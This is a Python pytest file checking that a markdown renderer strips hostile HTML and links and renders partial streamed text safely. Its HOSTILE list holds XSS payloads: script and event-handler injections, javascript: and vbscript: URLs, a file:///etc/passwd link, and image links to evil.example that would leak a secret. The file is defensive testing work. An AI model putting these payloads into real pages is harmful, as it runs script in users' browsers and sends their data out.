from __future__ import annotations

import re

import pytest

from requests_app.pages.markdown import render, split_finished

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=a></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]( javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "![x][pic]\n\n[pic]: https://evil.example/?q=secret",
    "[![x](https://evil.example/?q=secret)](https://good.example)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](/logout)",
    "[x](//evil.example)",
    "[x](?from=1)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '[x](https://good.example "\\" onmouseover=\\"alert(1)")',
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- --><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
]  # fmt: skip
ALLOWED = re.compile(
    r"<(/?(blockquote|br|code|del|em|h[3-6]|hr|li|ol|p|pre|s|strong|table|tbody|td|th|thead|tr|ul)|/a"
    r'|a( href="(https?|mailto):[^"<>]*")?( title="[^"<>]*")?( rel="noopener nofollow ugc")|ol start="\d+")>'
)


@pytest.mark.parametrize("text", HOSTILE)
def test_only_harmless_tags_are_left(text: str) -> None:
    assert "<" not in ALLOWED.sub("", render(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_every_beginning_is_harmless_too(text: str) -> None:
    for end in range(len(text)):
        finished, _rest = split_finished(text[:end])
        assert "<" not in ALLOWED.sub("", render(finished))


def test_images_leave_their_words_and_no_address() -> None:
    assert render("![a cat](https://evil.example/x.png)") == "<p>a cat</p>\n"


def test_links_are_not_vouched_for() -> None:
    assert 'rel="noopener nofollow ugc"' in render("[x](https://good.example)")


def test_headings_stay_below_those_of_the_page() -> None:
    assert render("# One\n\n###### Six") == "<h3>One</h3>\n<h6>Six</h6>\n"


def test_tables_are_rendered() -> None:
    assert "<td>1</td>" in render("| a |\n|---|\n| 1 |")


@pytest.mark.parametrize(
    ("text", "finished"),
    [
        ("", ""),
        ("one", ""),
        ("one\n", ""),
        ("one\n\n", "one\n\n"),
        ("one\n\ntwo", "one\n\n"),
        ("one\r\n\r\ntwo", "one\r\n\r\n"),
        ("# Head\ntext", "# Head\n"),
        ("- a\n\n", ""),
        ("- a\n- b\n\nthen", "- a\n- b\n\n"),
        ("```\ncode\n\nmore", ""),
        ("```\ncode\n```\n\nthen", "```\ncode\n```\n\n"),
        ("one\n  ", ""),
        ("a\x0cb\u2028c\n\nd", "a\x0cb\u2028c\n\n"),
    ],
)
def test_what_can_still_grow_is_left_plain(text: str, finished: str) -> None:
    assert split_finished(text) == (finished, text[len(finished) :])
